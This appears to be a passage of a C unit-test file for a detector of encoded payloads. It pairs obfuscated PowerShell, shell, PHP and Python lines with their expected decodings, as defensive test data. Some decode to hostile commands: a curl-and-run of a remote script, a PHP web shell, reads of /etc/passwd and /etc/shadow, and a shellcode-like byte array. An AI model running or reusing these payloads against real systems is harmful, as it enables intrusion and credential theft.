/* Payloads in texts: every way of announcing and writing them, layer by layer, and what only looks like
 * one. The texts were encoded by another program than this. */
#include "tests/unit/test.h"

#include <zlib.h>

#include "base/buffer.h"
#include "detect/payload.h"

typedef struct {
    const char *name, *text;
    const char *found; /* "kind (chain) text" or "kind (chain) N bytes", a line each */
} payload_case;

static const payload_case cases[] = {
    {"option -e", "powershell.exe -nop -w hidden -e dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -E", "powershell.exe -nop -w hidden -E dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -ec", "powershell.exe -nop -w hidden -ec dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -en", "powershell.exe -nop -w hidden -en dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -enc", "powershell.exe -nop -w hidden -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -ENC", "powershell.exe -nop -w hidden -ENC dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -EnC", "powershell.exe -nop -w hidden -EnC dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -enco", "powershell.exe -nop -w hidden -enco dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -encod", "powershell.exe -nop -w hidden -encod dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -encoded", "powershell.exe -nop -w hidden -encoded dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -encodedc", "powershell.exe -nop -w hidden -encodedc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -encodedcommand",
     "powershell.exe -nop -w hidden -encodedcommand dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -EncodedCommand",
     "powershell.exe -nop -w hidden -EncodedCommand dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option /e", "powershell.exe -nop -w hidden /e dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option /enc", "powershell.exe -nop -w hidden /enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option /EncodedCommand",
     "powershell.exe -nop -w hidden /EncodedCommand dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option \342\200\223enc",
     "powershell.exe -nop -w hidden \342\200\223enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option \342\200\224enc",
     "powershell.exe -nop -w hidden \342\200\224enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option \342\200\225e",
     "powershell.exe -nop -w hidden \342\200\225e dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option --enc", "powershell.exe -nop -w hidden --enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -ea", "powershell.exe -nop -w hidden -ea dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"option -EncodedArguments",
     "powershell.exe -nop -w hidden -EncodedArguments dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"renamed host", "C:\\Users\\Public\\a.exe -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"quoted", "powershell -enc \"dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==\"",
     "text (base64 > utf-16le) whoami /all\012"},
    {"single quotes", "powershell -enc 'dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=='",
     "text (base64 > utf-16le) whoami /all\012"},
    {"colon", "powershell -enc:dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"many blanks", "powershell -enc     \011dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"carets in the option", "cmd /c p^o^w^e^r^s^h^e^l^l -^e^n^c dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"carets in the code", "cmd /c powershell -enc dwB^oAG^8AY^QBt^AGk^AIA^AvA^GEA^bAB^sAA^==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"backtick in the option", "powershell -e`nc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
     "text (base64 > utf-16le) whoami /all\012"},
    {"very short", "powershell -enc bABzAA==", "text (base64 > utf-16le) ls\012"},
    {"without padding", "powershell -enc ZABpAHIAIAAvAHMA", "text (base64 > utf-16le) dir /s\012"},
    {"japanese script",
     "powershell -enc "
     "IwAgAGeYolsNVD98kjDGloEwizAKAEcAZQB0AC0AQwBvAG4AdABlAG4AdAAgAEMAOgBcAHFRCWdcAA1UP3wuAGMAcwB2A"
     "CAAfAAgAE8AdQB0AC0ARgBpAGwAZQAgAGEALgB0AHgAdAAgAC0ARQBuAGMAbwBkAGkAbgBnACAAdQB0AGYAOAA=",
     "text (base64 > utf-16le) # "
     "\351\241\247\345\256\242\345\220\215\347\260\277\343\202\222\351\233\206\343\202\201\343\202"
     "\213\012Get-Content C:\\\345\205\261\346\234\211\\\345\220\215\347\260\277.csv | Out-File "
     "a.txt -Encoding utf8\012"},
    {"byte order mark", "powershell -enc //53AGgAbwBhAG0AaQAgAC8AYQBsAGwA",
     "text (base64 > utf-16le) whoami /all\012"},
    {"behind other options",
     "powershell -NoP -sta -NonI -W Hidden -Enc "
     "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAEQAYQB0AGEAIAAtAFIAZQBjAHUAcgBzAGUAIAB8ACAAQwBvA"
     "G0AcAByAGUAcwBzAC0AQQByAGMAaABpAHYAZQAgAC0ARABlAHMAdABpAG4AYQB0AGkAbwBuAFAAYQB0AGgAIABvAHUAdA"
     "AuAHoAaQBwAA== -foo",
     "text (base64 > utf-16le) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zip\012"},
    {"in XML",
     "<Arguments>-NoProfile -enc "
     "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAEQAYQB0AGEAIAAtAFIAZQBjAHUAcgBzAGUAIAB8ACAAQwBvA"
     "G0AcAByAGUAcwBzAC0AQQByAGMAaABpAHYAZQAgAC0ARABlAHMAdABpAG4AYQB0AGkAbwBuAFAAYQB0AGgAIABvAHUAdA"
     "AuAHoAaQBwAA==</Arguments>",
     "text (base64 > utf-16le) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zip\012"},
    {"quotes of XML",
     "<Arguments>-enc "
     "&quot;"
     "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAEQAYQB0AGEAIAAtAFIAZQBjAHUAcgBzAGUAIAB8ACAAQwBvA"
     "G0AcAByAGUAcwBzAC0AQQByAGMAaABpAHYAZQAgAC0ARABlAHMAdABpAG4AYQB0AGkAbwBuAFAAYQB0AGgAIABvAHUAdA"
     "AuAHoAaQBwAA==&quot;</Arguments>",
     "text (base64 > utf-16le) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zip\012"},
    {"in JSON",
     "{\"cmd\": \"powershell -enc "
     "\\\"RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAEQAYQB0AGEAIAAtAFIAZQBjAHUAcgBzAGUAIAB8ACAAQ"
     "wBvAG0AcAByAGUAcwBzAC0AQQByAGMAaABpAHYAZQAgAC0ARABlAHMAdABpAG4AYQB0AGkAbwBuAFAAYQB0AGgAIABvAH"
     "UAdAAuAHoAaQBwAA==\\\"\"}",
     "text (base64 > utf-16le) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zip\012"},
    {"torn",
     "powershell -enc "
     "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAEQAYQB0AGEAIAAtAFIAZQBjAHUAcgBzAGUAI",
     "text torn (base64 > utf-16le) Get-ChildItem C:\\Data -Recurse\012"},
    {"FromBase64String", "[Convert]::FromBase64String('Y2FsYw==')",
     "text (base64 > utf-8) calc\012"},
    {"FromBase64String, whole name",
     "[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String("
     "\"bgBlAHQAIAB1AHMAZQByAA==\"))",
     "text (base64 > utf-16le) net user\012"},
    {"FromBase64String, small letters", "[convert]::frombase64string( \"bmV0IHVzZXI=\" )",
     "text (base64 > utf-8) net user\012"},
    {"doubled quotes in C", "[Convert]::FromBase64String(''bmV0IHZpZXcgL2FsbA=='')",
     "text (base64 > utf-8) net view /all\012"},
    {"python", "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"",
     "text (base64 > utf-8) import os\012"},
    {"python bytes", "exec(base64.b64decode(b'aW1wb3J0IG9z'))",
     "text (base64 > utf-8) import os\012"},
    {"php", "eval(base64_decode('c3lzdGVtKCRfR0VUWzFdKTs='));",
     "text (base64 > utf-8) system($_GET[1]);\012"},
    {"javascript", "eval(atob(\"YWxlcnQoMSk=\"))", "text (base64 > utf-8) alert(1)\012"},
    {"ruby", "Base64.decode64(\"cHV0cyAx\")", "text (base64 > utf-8) puts 1\012"},
    {"echo into base64", "echo aWQ7dW5hbWUgLWE= | base64 -d | sh",
     "text (base64 > utf-8) id;uname -a\012"},
    {"echo into base64, long option", "echo \"aWQ=\"|base64 --decode|bash",
     "text (base64 > utf-8) id\012"},
    {"here string", "base64 -d <<< aWQ7bHM= | sh", "text (base64 > utf-8) id;ls\012"},
    {"here string, quoted", "bash -c \"{ base64 -d <<<'aWQ7bHM='; }\"",
     "text (base64 > utf-8) id;ls\012"},
    {"openssl", "echo aWQ7bHM= | openssl base64 -d -A", "text (base64 > utf-8) id;ls\012"},
    {"xxd",
     "echo 69643b6c73202d6c61202f746d702f782f612f6574632f736861646f77202f6574632f686f737473 | xxd "
     "-r -p",
     "text (hex > utf-8) id;ls -la /tmp/x/a/etc/shadow /etc/hosts\012"},
    {"address with data", "data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=",
     "text (base64 > utf-8) <script>x()</script>\012"},
    {"bare text", "set x=Y3VybCBodHRwOi8vMTkyLjAuMi43L2Euc2ggfCBzaA==",
     "text (base64 > utf-8) curl http://192.0.2.7/a.sh | sh\012"},
    {"bare wide text",
     "$x = "
     "\"RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAEQAYQB0AGEAIAAtAFIAZQBjAHUAcgBzAGUAIAB8ACAAQwB"
     "vAG0AcAByAGUAcwBzAC0AQQByAGMAaABpAHYAZQAgAC0ARABlAHMAdABpAG4AYQB0AGkAbwBuAFAAYQB0AGgAIABvAHUA"
     "dAAuAHoAaQBwAA==\"",
     "text (base64 > utf-16le) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zip\012"},
    {"address parameter", "/up.php\?z=Y2F0IC9ldGMvcGFzc3dkPz4%2B",
     "text (base64 > utf-8) cat /etc/passwd\?>>\012"},
    {"alphabet for addresses", "GET /c\?d=Y2F0IC9ldGMvcGFzc3dkPz4-fn5-Pz8= HTTP",
     "text (base64url > utf-8) cat /etc/passwd\?>>~~~\?\?\012"},
    {"slashes of JSON", "{\"d\":\"Y2F0IC9ldGMvcGFzc3dkPz4\\u002bPz4\\/\"}",
     "text (base64 > utf-8) cat /etc/passwd\?>>\?>\?\012"},
    {"signs of XML", "<d>Y2F0IC9ldGMvcGFzc3dkPz4&#43;Pj4&#43;Pg&#x3D;&#x3D;</d>",
     "text (base64 > utf-8) cat /etc/passwd\?>>>>>>\012"},
    {"lines",
     "$x=@'"
     "\012R2V0LUNoaWxkSXRlbSBDOlxEYXRhIC1SZWN1cnNlIHwgQ29tcHJlc3MtQXJjaGl2\012ZSAtRGVzdGluYXRpb25QY"
     "XRoIG91dC56aXBHZXQtQ2hpbGRJdGVtIEM6XERhdGEg\012LVJlY3Vyc2UgfCBDb21wcmVzcy1BcmNoaXZlIC1EZXN0aW"
     "5hdGlvblBhdGggb3V0\012LnppcA==\012'@",
     "text (base64 > utf-8) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zipGet-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath out.zip\012"},
    {"lines of a pasted file",
     "R2V0LUNoaWxkSXRlbSBDOlxEYXRhIC1SZWN1cnNlIHwgQ29tcHJlc3MtQXJjaGl2ZSAtRGVzdGlu\015\012    "
     "YXRpb25QYXRoIG91dC56aXBHZXQtQ2hpbGRJdGVtIEM6XERhdGEgLVJlY3Vyc2UgfCBDb21wcmVz\015\012    "
     "cy1BcmNoaXZlIC1EZXN0aW5hdGlvblBhdGggb3V0LnppcA==\015\012",
     "text (base64 > utf-8) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zipGet-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath out.zip\012"},
    {"lines written out",
     "\"R2V0LUNoaWxkSXRlbSBDOlxEYXRhIC1SZWN1cnNlIHwgQ29tcHJlc3MtQXJjaGl2ZSAtRGVzdGlu\\nYXRpb25QYXRo"
     "IG91dC56aXBHZXQtQ2hpbGRJdGVtIEM6XERhdGEgLVJlY3Vyc2UgfCBDb21wcmVz\\ncy1BcmNoaXZlIC1EZXN0aW5hdG"
     "lvblBhdGggb3V0LnppcA==\\n\"",
     "text (base64 > utf-8) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zipGet-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath out.zip\012"},
    {"pieces added up",
     "$c = \"R2V0LUNoaWxkSXRlbSBDOlxEYXRhIC1SZWN1cnNlIHwgQ29tcH\" + "
     "\"Jlc3MtQXJjaGl2ZSAtRGVzdGluYXRpb25QYXRoIG91dC56aXBHZ\" +\012  "
     "\"XQtQ2hpbGRJdGVtIEM6XERhdGEgLVJlY3Vyc2UgfCBDb21wcmVzcy1BcmNoaXZlIC1EZXN0aW5hdGlvblBhdGggb3V0"
     "LnppcA==\"",
     "text (base64 > utf-8) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zipGet-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath out.zip\012"},
    {"pieces added up in Basic",
     "c = \"R2V0LUNoaWxkSXRlbSBDOlxEYXRhIC1SZWN1cnNlIHwgQ29tcH\" & _\015\012 "
     "\"Jlc3MtQXJjaGl2ZSAtRGVzdGluYXRpb25QYXRoIG91dC56aXBHZXQtQ2hpbGRJdGVtIEM6XERhdGEgLVJlY3Vyc2Ugf"
     "CBDb21wcmVzcy1BcmNoaXZlIC1EZXN0aW5hdGlvblBhdGggb3V0LnppcA==\"",
     "text (base64 > utf-8) Get-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath "
     "out.zipGet-ChildItem C:\\Data -Recurse | Compress-Archive -DestinationPath out.zip\012"},
    {"short pieces behind a mark", "FromBase64String('bmV0IHV'+'zZXIgL'+'2RvbWFpbg==')",
     "text (base64 > utf-8) net user /domain\012"},
    {"two in a text", "powershell -e bwBuAGUAIAAxAA==; powershell -e dAB3AG8AIAAyAA==",
     "text (base64 > utf-16le) one 1\012text (base64 > utf-16le) two 2\012"},
    {"program",
     "$p="
     "\"TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAAA"
     "BAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJic=\"",
     "pe (base64) 107 bytes\012"},
    {"program of Linux",
     "x=f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", "elf (base64) 44 bytes\012"},
    {"machine code", "$s=\"/EiD5PDowAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pK\"",
     "shellcode (base64) 42 bytes\012"},
    {"numbers",
     "[Byte[]]$b = "
     "0xfc,0x48,0x83,0xe4,0xf0,0xe8,0xc0,0x00,0x00,0x00,0x41,0x51,0x41,0x50,0x52,0x51,0x56,0x48,"
     "0x31,0xd2,0x65,0x48,0x8b,0x52,0x60,0x48,0x8b,0x52,0x18,0x48,0x8b,0x52,0x20,0x48,0x8b,0x72,"
     "0x50,0x48,0x0f,0xb7,0x4a,0x4a",
     "shellcode (bytes) 42 bytes\012"},
    {"numbers of C",
     "char "
     "b[]="
     "\"\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51\\x56\\x48"
     "\\x31\\xd2\\x65\\x48\\x8b\\x52\\x60\\x48\\x8b\\x52\\x18\\x48\\x8b\\x52\\x20\\x48\\x8b\\x72\\x"
     "50\\x48\\x0f\\xb7\\x4a\\x4a\";",
     "shellcode (bytes) 42 bytes\012"},
    {"numbers over lines",
     "buf = Array(0x4D, _\015\0120x5A, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x0, "
     "_\015\0120x40, _\015\0120x0, _\015\0120x0, _\015\0120x0, _\015\0120x50, _\015\0120x45, "
     "_\015\0120x0, _\015\0120x0, _\015\0120x1, _\015\0120x2, _\015\0120x3, _\015\0120x4, "
     "_\015\0120x5, _\015\0120x6, _\015\0120x7, _\015\0120x8, _\015\0120x9, _\015\0120xA, "
     "_\015\0120xB, _\015\0120xC, _\015\0120xD, _\015\0120xE, _\015\0120xF, _\015\0120x10, "
     "_\015\0120x11, _\015\0120x12, _\015\0120x13, _\015\0120x14, _\015\0120x15, _\015\0120x16, "
     "_\015\0120x17, _\015\0120x18, _\015\0120x19, _\015\0120x1A, _\015\0120x1B, _\015\0120x1C, "
     "_\015\0120x1D, _\015\0120x1E, _\015\0120x1F, _\015\0120x20, _\015\0120x21, _\015\0120x22, "
     "_\015\0120x23, _\015\0120x24, _\015\0120x25, _\015\0120x26, _\015\0120x27)",
     "pe (bytes) 107 bytes\012"},
    {"hexadecimal program",
     "$h="
     "\"4D5A000000000000000000000000000000000000000000000000000000000000000000000000000000000000000"
     "0000000000000000000000000000040000000504500000102030405060708090A0B0C0D0E0F101112131415161718"
     "191A1B1C1D1E1F2021222324252627\"",
     "pe (hex) 107 bytes\012"},
    {"zip", "x=\"UEsDBAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\"",
     "zip (base64) 44 bytes\012"},
    {"certificate",
     "-----BEGIN "
     "CERTIFICATE-----"
     "\012MIIAPDCCACigAwIBAgIBCQABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLw=="
     "\012-----END CERTIFICATE-----",
     "x509 (base64) 64 bytes\012"},
    {"program as a certificate",
     "-----BEGIN "
     "CERTIFICATE-----"
     "\015\012TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\015\012AAAAAAAAAAAAA"
     "AAAQAAAAFBFAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhsc\015\012HR4fICEiIyQlJic=\015\012-----END "
     "CERTIFICATE-----",
     "pe (base64) 107 bytes\012"},
    {"web session",
     "Authorization: Bearer "
     "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJkZW1vIiwiYWRtaW4iOnRydWV9."
     "c2lnbmF0dXJlc2lnbmF0dXJl",
     "jwt (jwt) {\"alg\":\"HS256\",\"typ\":\"JWT\"}\012{\"sub\":\"demo\",\"admin\":true}\012"},
    {"bytes without order, announced",
     "FromBase64String('pU3KGCUwux1tEyze1iN7LtkeP3IfyxlxF0SU1kk8nVw0YL4xIB5p/g==')",
     "binary (base64) 40 bytes\012"},
    {"bytes without order, long",
     "$x='pU3KGCUwux1tEyze1iN7LtkeP3IfyxlxF0SU1kk8nVw0YL4xIB5p/tqg7ui5mX9cfCmZ/a/"
     "lkyU81lSvTfrXFCegrrP+6SMvivIhH57kkcWxC+y1Vjv8Hm+TQn7LyP4pVeXNjkbcjtS3wnZNKlpNdncG+"
     "F2GkAJK1r2jQBvpyMvMyTX2zR9hImrhUziuGjQATTO6DSRqwEyBsbryPjv57vX3nytJNK+"
     "H9VILablLDZguhbtVtnKocmN6zXRm/LYODo/"
     "xhGOw5LK6KXA0dPBkrGj3APWwKz3GZvRb3qosyu3NK1FXQQ5N7krys09DCgc0R95jbA6AbJV7poTWQx+"
     "16tdCTQnhXQJMWEjyPR+m9zYdf2GNFTLnDiDipmaN5/R+hGflRtU+yOKhJXvbJWybPk+7SYFG73Awy/"
     "lTclLczq3XZLajL7sJrerhCcSplyA5dTUrh4sUXIpC2ITPTP2nLY4dXdkliQgthSpxIoc+"
     "6AWt1YlCFno4UoYZXGefnGmU5FuKsQmAEgcJYfN95Dbd/"
     "cmdbnWvZUfPsRtCBySC3FMcK8OQfJYX615QieQBhrqopX0Rnm+2XQCrwyrzjmZ/Ai6HLUnMFckLmZt3K0/"
     "Hpv1MkUoW20cIdSsPFUS4NcDnGQl9+ocB6SMvIfKBJod4aXbr/MMn9ZMXZSdLqYKbRAb2H/iJMm/"
     "6lJLt7u48Zp8r8giU6ifmicZrayYuSIa4Q485unb++MkMUQH75s+"
     "aSNWwwKE9qQCmrcs9ZAaUgb4hyccnuNuMGI80GpJMf4jfoWG/2w7MaCkZ'",
     "binary (base64) 600 bytes\012"},
    {"japanese text, older code", "base64_decode('ZWNobyCM2otxlryV64Lwj8GCt4+Il52CxYK3')",
     "text (base64 > cp932) echo "
     "\351\241\247\345\256\242\345\220\215\347\260\277\343\202\222\346\266\210\343\201\231\345\207"
     "\246\347\220\206\343\201\247\343\201\231\012"},
    {"japanese text", "base64_decode('ZWNobyDpoaflrqLlkI3nsL/jgpLmtojjgZnlh6bnkIbjgafjgZk=')",
     "text (base64 > utf-8) echo "
     "\351\241\247\345\256\242\345\220\215\347\260\277\343\202\222\346\266\210\343\201\231\345\207"
     "\246\347\220\206\343\201\247\343\201\231\012"},
    {"gzip",
     "New-Object "
     "IO.MemoryStream(,[Convert]::FromBase64String('"
     "H4sIAAAAAAACA3NPLdF1zsjMSfEsSc1VcLaKcUksSVTQDUpNLi0qTlWoUXDOzy0oSi0u1nUsSs7ILEtV0HVJLS7JzEssy"
     "czPC0gsyVDILy3Rq8osAACrFGYpSgAAAA=='))",
     "gzip (base64) 94 bytes\012text (base64 > gzip > utf-8) Get-ChildItem C:\\Data -Recurse | "
     "Compress-Archive -DestinationPath out.zip\012"},
    {"gzip, bare",
     "x="
     "H4sIAAAAAAACA3NPLdF1zsjMSfEsSc1VcLaKcUksSVTQDUpNLi0qTlWoUXDOzy0oSi0u1nUsSs7ILEtV0HVJLS7JzEssy"
     "czPC0gsyVDILy3Rq8osAACrFGYpSgAAAA==",
     "gzip (base64) 94 bytes\012text (base64 > gzip > utf-8) Get-ChildItem C:\\Data -Recurse | "
     "Compress-Archive -DestinationPath out.zip\012"},
    {"deflate",
     "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
     "c08t0XXOyMxJ8SxJzVVwtopxSSxJVNANSk0uLSpOVahRcM7PLShKLS7WdSxKzsgsS1XQdUktLsnMSyzJzM8LSCzJUMgvL"
     "dGryiwAAA=='))",
     "deflate (base64) 76 bytes\012text (base64 > deflate > utf-8) Get-ChildItem C:\\Data -Recurse "
     "| Compress-Archive -DestinationPath out.zip\012"},
    {"zlib",
     "zlib.decompress(base64.b64decode('"
     "eJxzTy3Rdc7IzEnxLEnNVXC2inFJLElU0A1KTS4tKk5VqFFwzs8tKEotLtZ1LErOyCxLVdB1SS0uycxLLMnMzwtILMlQy"
     "C8t0avKLAAAyWMapg=='))",
     "zlib (base64) 82 bytes\012text (base64 > zlib > utf-8) Get-ChildItem C:\\Data -Recurse | "
     "Compress-Archive -DestinationPath out.zip\012"},
    {"program in gzip",
     "FromBase64String('H4sIAAAAAAACA/"
     "ONYiAbOABxgCsDAyMTMwsrGzsHJxc3Dy8fv4CgkLCIqJi4hKSUtIysnLyCopKyiqqaOgCsMQ/SawAAAA==')",
     "gzip (base64) 70 bytes\012pe (base64 > gzip) 107 bytes\012"},
    {"script in a script",
     "powershell -enc "
     "aQBlAHgAKABbAFQAZQB4AHQALgBFAG4AYwBvAGQAaQBuAGcAXQA6ADoAVQBUAEYAOAAuAEcAZQB0AFMAdAByAGkAbgBnA"
     "CgAWwBDAG8AbgB2AGUAcgB0AF0AOgA6AEYAcgBvAG0AQgBhAHMAZQA2ADQAUwB0AHIAaQBuAGcAKAAnAGIAbQBWADAASQ"
     "BIAFYAegBaAFgASQA9ACcAKQApACkA",
     "text (base64 > utf-16le) "
     "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bmV0IHVzZXI=')))\012text "
     "(base64 > utf-16le > base64 > utf-8) net user\012"},
    {"three layers",
     "powershell -enc "
     "cwBoACAALQBjACAAIgBlAGMAaABvACAASAA0AHMASQBBAEEAQQBBAEEAQQBBAEMAQQAwAHQATgB6AHMAaABYAFMAQQB3A"
     "FAATgBFAC8AeQA4AEwAVgBWAHEARgBGAEkAUwBpAHgATwBOAFQATgBSADAARQAwAEIAQQBQAEoAbgAzAEUAZwBaAEEAQQ"
     "BBAEEAIAB8ACAAYgBhAHMAZQA2ADQAIAAtAGQAIAB8ACAAZwB1AG4AegBpAHAAIgA=",
     "text (base64 > utf-16le) sh -c \"echo "
     "H4sIAAAAAAACA0tNzshXSAwPNE/y8LVVqFFISixONTNR0E0BAPJn3EgZAAAA | base64 -d | gunzip\"\012gzip "
     "(base64 > utf-16le > base64) 45 bytes\012text (base64 > utf-16le > base64 > gzip > utf-8) "
     "echo aWQ7bHM= | base64 -d\012text (base64 > utf-16le > base64 > gzip > utf-8 > base64 > "
     "utf-8) id;ls\012"},
    {"twice", "echo WTNWeWJDQm9kSFJ3T2k4dk1Ua3lMakF1TWk0M0wyRXVjMmdnZkNCemFBPT0= | base64 -d",
     "text (base64 > utf-8) Y3VybCBodHRwOi8vMTkyLjAuMi43L2Euc2ggfCBzaA==\012text (base64 > utf-8 > "
     "base64 > utf-8) curl http://192.0.2.7/a.sh | sh\012"},
    {"gzip cut short",
     "FromBase64String('"
     "H4sIAAAAAAACA3NPLdF1zsjMSfEsSc1VcLaKcUksSVTQDUpNLi0qTlWoUXDOzy0oSi0u1nUsSs7ILEtV0HVJLS7JzEssy"
     "czPC0g=')",
     "gzip torn (base64) 74 bytes\012text torn (base64 > gzip > utf-8) Get-ChildItem C:\\Data "
     "-Recurse | Compress-Archive -DestinationP\012"},
    {"no: identifiers",
     "{F42039FB-1111-4222-8333-0000000000CD},{A42039FB-1111-4222-8333-0000000000CE}", ""},
    {"no: account", "S-1-5-21-1000000001-2000000002-3000000003-1104", ""},
    {"no: SHA-256", "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08", ""},
    {"no: MD5s",
     "d41d8cd98f00b204e9800998ecf8427e 0cc175b9c0f1b6a831c399e269772661 "
     "900150983cd24fb0d6963f7d28e17f72",
     ""},
    {"no: path of Windows",
     "C:\\ProgramData\\Microsoft\\Windows\\AppRepository\\StateRepositoryDeployment.srd", ""},
    {"no: path of Linux", "/usr/lib/jvm/java-17-openjdk-amd64/lib/security/cacerts/default/policy",
     ""},
    {"no: words", "TerminalServicesRemoteConnectionManagerOperationalChannelConfiguration", ""},
    {"no: words of a path", "Application/Configuration/Management/Infrastructure/Authentication",
     ""},
    {"no: long name", "Microsoft-Windows-TerminalServices-RemoteConnectionManager", ""},
